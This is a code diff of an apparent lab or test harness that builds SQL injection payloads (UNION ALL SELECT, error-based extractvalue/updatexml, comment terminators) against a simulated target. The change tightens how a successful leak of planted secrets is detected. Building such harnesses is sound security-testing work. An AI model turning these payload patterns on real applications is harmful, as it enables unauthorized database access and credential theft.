@@ -18,8 +18,7 @@ class Hole:
             self.open = "shoes'"
         self.tail = rng.choice(("-- -", "--+", "-- x"))
         self.extra = {"login": "&pass=x"}.get(kind, "")
-        self.marks = [target.secrets[key] for key in ("password", "hidden", "mail")] + [
-            target.secrets["password"][:3] + "0"]
+        self.marks = [target.secrets[key] for key in ("password", "hidden", "mail", "words")]
         self.manner = rng.choice(("plain", "plain", "comments", "mixed"))
 
     @property
@@ -80,9 +79,8 @@ def union(attacker, hole):
         row = ["NULL"] * columns
         expression, rest = word.split(" FROM ")
         row[min(where, columns - 1)] = expression
-        # In SQLite "user1" has another password: any of them begins with the same three letters.
         attacker.attack("sqli-union", hole.name, hole.target(f" UNION ALL SELECT {','.join(row)} FROM {rest}"),
-                        check=lambda reply: hole.held(reply) or hole.marks[0][:3] in reply.body, ran=hole.ran)
+                        check=lambda reply: hole.held(reply), ran=hole.ran)
 
 
 def error(attacker, hole):
@@ -92,7 +90,7 @@ def error(attacker, hole):
                                     "SELECT name||email FROM users LIMIT 1", "SELECT password FROM users LIMIT 1"))
         call = attacker.rng.choice((f"extractvalue(1,concat(0x7e,({what})))", f"updatexml(1,concat(0x7e,({what})),1)"))
         attacker.attack("sqli-error", hole.name, hole.target(f" AND {call}"),
-                        check=lambda reply: hole.held(reply) or hole.marks[0][:3] in reply.body, ran=hole.ran)
+                        check=lambda reply: hole.held(reply), ran=hole.ran)
 
 
 def boolean(attacker, hole):
